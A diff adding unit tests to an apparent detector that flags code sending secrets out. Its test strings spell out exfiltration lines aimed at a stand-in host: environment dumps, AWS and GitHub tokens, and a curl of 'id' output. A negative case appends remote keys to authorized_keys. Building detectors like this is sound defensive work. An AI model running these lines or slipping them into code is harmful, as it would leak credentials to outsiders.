@@ -29,4 +29,35 @@ describe("secret_exfil: where a secret goes (issue #23)", () => {
     const far = `e5 = dict(os.environ)\n${"# …\n".repeat(1200)}requests.post('https://collect.example.net/', json=e5)`;
     assert.equal(sends(far), false);
   });
+
+  it("holds after a review's attempts: far uses, a field named for another secret, beacons, Object.assign", () => {
+    const pad = "# padding comment line here\n".repeat(180);
+    assert.equal(
+      sends(`env_copy = dict(os.environ)\n${pad}requests.post("https://c.example.net/", json=env_copy)`),
+      true,
+    );
+    const aws = 'os.environ["AWS_SECRET_ACCESS_KEY"]';
+    assert.equal(sends(`requests.post("https://c.example.net/", json={"token": ${aws}})`), true);
+    assert.equal(sends('fetch("https://c.example.net/i?h="+os.hostname()+"&u="+os.userInfo().username)'), true);
+    assert.equal(sends('curl -s -d "$(id)" https://c.example.net/i'), true);
+    assert.equal(
+      sends("const p = {};\nObject.assign(p, process.env);\nfetch(u, {method: 'POST', body: JSON.stringify(p)})"),
+      true,
+    );
+    assert.equal(sends("fetch(`https://${process.env.GITHUB_TOKEN}.c.example.net/`)"), true);
+  });
+
+  it("lets ordinary code pass: a setting read from the environment, its own host, a file a command writes", () => {
+    assert.equal(sends("const env = process.env;\nconst base = env.API_URL;\nfetch(`${base}/v1/users`)"), false);
+    assert.equal(sends('env = os.environ\nbase = env.get("API_URL")\nrequests.get(base + "/v1/users")'), false);
+    assert.equal(sends('HOST=$(hostname)\ncurl -s "http://$HOST:9200/_cluster/health"'), false);
+    assert.equal(sends('fetch("http://" + os.hostname() + ":9200/health")'), false);
+    assert.equal(sends("const port = process.env.MCP_AUTH_PORT;\nfetch(`http://localhost:${port}/token`)"), false);
+    assert.equal(sends("curl --netrc-file ~/.netrc -fsSL https://api.example.com/v1/me"), false);
+    assert.equal(sends("curl -fsSL https://github.com/octocat.keys >> ~/.ssh/authorized_keys"), false);
+    const merged = "const env = Object.assign({}, process.env, {CI: '1'});\nconst body = JSON.stringify(results);";
+    assert.equal(sends(`${merged}\nawait fetch(url, {method: 'POST', body})`), false);
+    const geocode = 'requests.get("https://maps.example.com/geocode?address=x&key=" + os.environ["MAPS_API_KEY"])';
+    assert.equal(sends(geocode), false);
+  });
 });
